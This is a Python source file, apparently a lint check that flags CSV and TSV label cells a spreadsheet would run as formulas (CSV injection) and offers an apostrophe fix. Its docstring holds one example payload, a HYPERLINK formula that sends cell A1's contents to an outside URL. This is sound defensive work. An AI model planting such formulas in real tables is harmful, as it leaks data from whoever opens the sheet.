"""A cell that a spreadsheet runs.

What
    A cell of a table of labels (CSV, TSV) begins with =, +, -, @, a tab or a return, and is no number.

Why it hurts training
    It does not hurt the model. Whoever opens the table in a spreadsheet runs it: a formula can send the sheet
    elsewhere or start a programme.

Example
    `=HYPERLINK("http://example.org/?"&A1,"cat")` as a label.

Instead
    Correct the label; or put an apostrophe before the cell, by which spreadsheets take it for text.

Fix safety
    Unsafe: the apostrophe becomes a part of the label.

Sources
    OWASP on CSV injection.

"""

import csv
import re
from collections.abc import Iterator
from pathlib import Path

from ....schemas.finding import Edit, Fix
from ..hits import Located
from ..labels import Labels
from ..settings import Settings

_SUFFIXES = {".csv": ",", ".tsv": "\t"}
_FORMULA = re.compile(r"[=+@\t\r-]")
_NUMBER = re.compile(r"[+-]?[0-9.,eE+-]*%?")
_LARGEST = 64 << 20
"""Bytes of the largest table that is looked at: a spreadsheet opens none that is larger."""


class State:
    """The tables of labels that went by."""

    def __init__(self) -> None:
        self._files: dict[str, None] = {}

    def see_labels(self, labels: Labels) -> None:
        """Remember the names of tables."""
        names = map(str, labels.batch.column("file").unique().to_pylist())
        self._files |= dict.fromkeys(name for name in names if Path(name).suffix.lower() in _SUFFIXES)

    def finish(self) -> Iterator[Located]:
        """The cells that a spreadsheet would run, in every table once."""
        for file in self._files:
            if Path(file).is_file() and Path(file).stat().st_size <= _LARGEST:
                yield from _formulas(Path(file))


def start(_settings: Settings) -> State:
    """No table was seen."""
    return State()


def _formulas(path: Path) -> Iterator[Located]:
    mark = _SUFFIXES[path.suffix.lower()]
    with path.open(encoding="utf-8", errors="surrogateescape", newline="") as file:
        lines = file.read().splitlines(keepends=True)
    if lines and mark == "," and lines[0].count(";") > lines[0].count(","):
        mark = ";"
    rows = csv.reader(lines, delimiter=mark)
    before = 0
    try:
        for row in rows:
            number, before = before + 1, rows.line_num
            for cell in row:
                if _FORMULA.match(cell) and not _NUMBER.fullmatch(cell.strip()):
                    fix = _fix(path, number, lines[number - 1], cell, mark) if rows.line_num == number else None
                    yield Located(str(path), f"{number}:1", cell[:80], f"the cell {cell[:80]!r} is a formula", fix)
    except csv.Error:
        return  # what is no table is said by who reads it


def _fix(path: Path, number: int, line: str, cell: str, mark: str) -> Fix | None:
    """The line with an apostrophe before the cell."""
    quoted = cell.replace('"', '""')
    edge = re.escape(mark)
    whole = re.compile(rf'(^|{edge})("?)({re.escape(quoted)})("?)(?={edge}|$)')
    new, count = whole.subn(r"\1\2'\3\4", line.rstrip("\r\n"))
    return (
        Fix("unsafe", "Put an apostrophe before the cell", (Edit(str(path), str(number), "replace", new),))
        if count
        else None
    )
